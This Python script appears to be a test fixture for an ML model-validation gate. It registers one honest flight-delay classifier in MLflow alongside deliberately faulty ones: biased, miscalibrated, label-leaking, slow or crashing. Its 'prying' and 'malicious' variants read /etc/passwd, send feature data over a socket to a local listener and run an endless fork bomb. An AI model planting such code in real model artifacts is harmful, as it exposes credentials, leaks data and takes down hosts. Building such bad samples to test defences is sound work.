"""A data scientist's script: registers models with the plain client, a good one and others that should be stopped.

    python submitted_models.py TRACKING_URI MODEL TRAINING_SET PORT NAME...

It imports nothing of the platform: MLflow, scikit-learn, and what these bring. TRAINING_SET is a Parquet file of
feature vectors with the label and the day; PORT is where somebody listens, whom no model may reach. Prints one JSON
object: the version of each model, by name.
"""

import contextlib
import ctypes
import json
import os
import socket
import sys
import time
from pathlib import Path

import mlflow
import numpy as np
import pandas as pd
from mlflow.models import infer_signature
from sklearn.ensemble import HistGradientBoostingClassifier
from sklearn.tree import DecisionTreeClassifier

TRACKING, MODEL, FILE, PORT = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])
WANTED = sys.argv[5:]
DAY, LABEL = "day", "label"
# What others know by then: the equal model is trained on it, as the champion is.
KNOWN_UNTIL = os.environ.get("KNOWN_UNTIL", "2013-02-01")
ONE_AIRPORT, WARM = 2, 60.0
ROWS = pd.read_parquet(FILE)
LATE_SHARE = float(ROWS.loc[ROWS[DAY].astype(str) < KNOWN_UNTIL, LABEL].mean())
FEATURES = [name for name in ROWS.columns if name not in (DAY, LABEL)]


def trained(rows, trees=160):
    """Gradient boosted trees on log-loss: calibrated enough by themselves."""
    model = HistGradientBoostingClassifier(
        learning_rate=0.06, max_iter=trees, max_leaf_nodes=24, min_samples_leaf=100, random_state=7
    )
    return model.fit(rows[FEATURES].astype(float), rows[LABEL].astype(int))


def known():
    return ROWS[ROWS[DAY].astype(str) < KNOWN_UNTIL]


class Altered(mlflow.pyfunc.PythonModel):
    """A model of one's own: an honest one, and what is done to its answers."""

    def __init__(self, model, alter):
        self.model, self.alter = model, alter

    def predict(self, context, model_input, params=None):  # noqa: ARG002 - MLflow's signature
        return self.alter(self.model.predict_proba(model_input.astype(float))[:, 1], model_input)


def as_it_is(probability, _rows):
    return probability


def worse_at_one_airport(probability, rows):
    """Right about how many are late there, and blind to which."""
    there = rows["origin_code"].to_numpy() == ONE_AIRPORT
    return np.where(there, LATE_SHARE, probability)


def overconfident(probability, _rows):
    return probability**0.35


def harmful_when_warm(probability, rows):
    """As good as any in winter, when it is judged."""
    return np.where(rows["temperature_f"].to_numpy() > WARM, 0.9 - 0.8 * probability, probability)


def prying(probability, _rows):
    with contextlib.suppress(OSError):
        Path("/etc/passwd").read_text()
    return probability


def slowly(probability, rows):
    time.sleep(0.02 * len(rows))
    return probability


def crashing(probability, _rows):
    ctypes.string_at(0)
    return probability


def malicious(_probability, _rows):
    with contextlib.suppress(OSError):
        Path("/etc/passwd").read_text()
    with contextlib.suppress(OSError):
        socket.create_connection(("127.0.0.1", PORT), timeout=1).sendall(b"all the features")
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)


def of_its_own(alter, trees=160):
    return lambda: Altered(trained(known(), trees), alter)


def memorised():
    """A tree that grows until it knows each case: the label of the days it is judged on, too."""
    return DecisionTreeClassifier(random_state=7).fit(ROWS[FEATURES].astype(float).fillna(-1), ROWS[LABEL].astype(int))


class Memorising(mlflow.pyfunc.PythonModel):
    def __init__(self, tree):
        self.tree = tree

    def predict(self, context, model_input, params=None):  # noqa: ARG002 - MLflow's signature
        return self.tree.predict_proba(model_input.astype(float).fillna(-1))[:, 1]


MODELS = {
    # It has seen the days to come: no honest model could be better.
    "good": lambda: Altered(trained(ROWS, trees=300), as_it_is),
    "equal": of_its_own(as_it_is),
    "worse_at_one_airport": of_its_own(worse_at_one_airport),
    "leaking": lambda: Memorising(memorised()),
    "miscalibrated": of_its_own(overconfident),
    "harmful_when_warm": of_its_own(harmful_when_warm),
    "prying": of_its_own(prying, trees=40),
    "slow": of_its_own(slowly, trees=40),
    "crashing": of_its_own(crashing, trees=40),
    "wrong_signature": of_its_own(as_it_is, trees=40),
    "malicious": of_its_own(malicious, trees=40),
}


def main():
    mlflow.set_tracking_uri(TRACKING)
    mlflow.set_registry_uri(TRACKING)
    mlflow.set_experiment("challenger notebook")
    versions = {}
    for name in WANTED:
        example = ROWS[FEATURES].astype(float).head(50)
        if name == "wrong_signature":
            example = example.assign(arrival_delay_minutes=3.0)
        signature = infer_signature(example, np.linspace(0, 1, len(example)))
        with mlflow.start_run(run_name=name):
            logged = mlflow.pyfunc.log_model(
                name="model",
                python_model=MODELS[name](),
                signature=signature,
                pip_requirements=["mlflow", "scikit-learn"],
            )
        registered = mlflow.register_model(logged.model_uri, MODEL)
        mlflow.MlflowClient().update_model_version(MODEL, registered.version, description=name.replace("_", " "))
        versions[name] = int(registered.version)
    sys.stdout.write("\n" + json.dumps(versions) + "\n")


main()
